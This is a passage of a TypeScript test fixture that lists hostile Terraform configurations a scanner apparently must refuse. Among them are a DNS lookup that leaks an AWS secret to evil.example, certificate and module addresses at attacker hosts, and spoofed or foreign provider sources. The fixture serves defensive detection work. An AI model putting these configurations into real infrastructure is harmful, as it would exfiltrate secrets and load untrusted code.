  provider("an argument nobody knows", "acme", "mystery = var.m", 'variable "m" {}\n'),
  root(
    "address",
    "a certificate's address that is worked out",
    'data "tls_certificate" "x" {\n  url = "https://${uuid()}.evil.example"\n}\n',
  ),
  root(
    "address",
    "a certificate's address from a variable of the line",
    'variable "u" {\n  default = "https://a.example"\n}\ndata "tls_certificate" "x" {\n  url = var.u\n}\n',
    {},
    "plan",
    "-var=u=https://evil.example",
  ),
  root(
    "address",
    "a name that is asked for and tells something",
    'data "dns_a_record_set" "x" {\n  host = "${substr(data.aws_secretsmanager_secret_version.s.secret_string, 0, 60)}.evil.example"\n}\n',
  ),
  root(
    "address",
    "a chart from an address that is worked out",
    'resource "helm_release" "x" {\n  name       = "x"\n  repository = data.aws_ssm_parameter.r.value\n  chart      = "x"\n}\n',
  ),
  root("address", "plans that run elsewhere", 'terraform {\n  cloud {\n    organization = "x"\n  }\n}\n'),
  root(
    "address",
    "a module of a repository",
    'module "m" {\n  source = "git::ssh://git@evil.example/x.git"\n}\n',
  ),
];

/** A lock file that names this provider. */
function locked(source: string): Record<string, string> {
  return { [LOCK]: `provider "${source}" {\n  version = "1.0.0"\n}\n` };
}
/** A root that requires a provider of this source. */
function requires(what: string, source: string, more: Record<string, string> = {}): HostileRoot {
  return root("provider", what, `terraform {\n  required_providers {\n    x = ${source}\n  }\n}\n`, more);
}

const providers: HostileRoot[] = [
  requires("of a foreign registry", '{ source = "evil.example/acme/x" }', locked("evil.example/acme/x")),
  requires("of somebody else", '{ source = "acme/x" }'),
  requires("of somebody else, the registry spelled out", '{ source = "registry.terraform.io/acme/x" }'),
  requires("called as hashicorp's own elsewhere", '{ source = "evil.example/hashicorp/aws" }'),
  requires("that runs programs", '{ source = "hashicorp/external" }'),
  requires("that asks addresses", '{ source = "registry.terraform.io/hashicorp/http" }'),
  requires("that writes files", '{ source = "hashicorp/local" }'),
  requires("in capitals", '{ source = "HashiCorp/External" }'),
  requires("by a source that is worked out", '{ source = "${"acme"}/x" }'),
  requires("by a source with a wildcard", '{ source = "hashicorp/*" }'),
  requires("by two sources", '{ source = "hashicorp/aws", source = "acme/x" }'),
  requires("by a quoted key", '{ "source" : "acme/x" }'),
  requires("by a computed key", '{ ("source") = "acme/x" }'),
  root(
    "provider",
    "by an overriding file",
    'terraform {\n  required_providers {\n    x = { source = "hashicorp/aws" }\n  }\n}\n',
    { "net/override.tf": 'terraform {\n  required_providers {\n    x = { source = "acme/x" }\n  }\n}\n' },
  ),
  root("provider", "in JSON", "", {
    "net/a.tf.json": '{"terraform": {"required_providers": {"x": {"source": "acme/x"}}}}',
  }),
  root("provider", "in a list of JSON", "", {
    "net/a.tf.json": '{"terraform": [{"required_providers": [{"x": {"source": "acme/x"}}]}]}',
  }),
  root("provider", "in a module", 'module "m" {\n  source = "./m"\n}\n', {
    "net/m/main.tf": 'terraform {\n  required_providers {\n    x = { source = "acme/x" }\n  }\n}\n',
  }),
  root("provider", "only in the lock file", "", locked("registry.terraform.io/acme/x")),
  root("provider", "only in a lock file nobody can read", "", { [LOCK]: 'provider "a" {' }),
  root("provider", "by a resource's name", 'resource "external_x" "x" {}\n'),
  root("provider", "by the name of data alone", 'data "local_thing" "x" {}\n'),
  root("provider", "by a provider's block", 'provider "http" {}\n'),
  root("provider", "by a resource that names it", 'resource "aws_x" "x" {\n  provider = external.y\n}\n'),
  root(
    "provider",
    "by a resource that names it in a text",
    'resource "aws_x" "x" {\n  provider = "local.y"\n}\n',
  ),
  root(
    "provider",
    "in a check",
    'check "c" {\n  data "local_thing" "x" {}\n  assert {\n    condition     = true\n    error_message = "x"\n  }\n}\n',
  ),
  root("provider", "in a test", "", { "net/a.tftest.hcl": 'provider "local" {}\nrun "a" {}\n' }),
  root("provider", "that lies in the workspace", "", {
    "net/terraform.d/plugins/acme.example/a/x/1.0.0/linux_amd64/terraform-provider-x": "x",
  }),
];

/** Roots that must be refused before they are loaded, each by a finding. */
export const hostileRoots: readonly HostileRoot[] = [...code, ...file, ...address, ...providers];
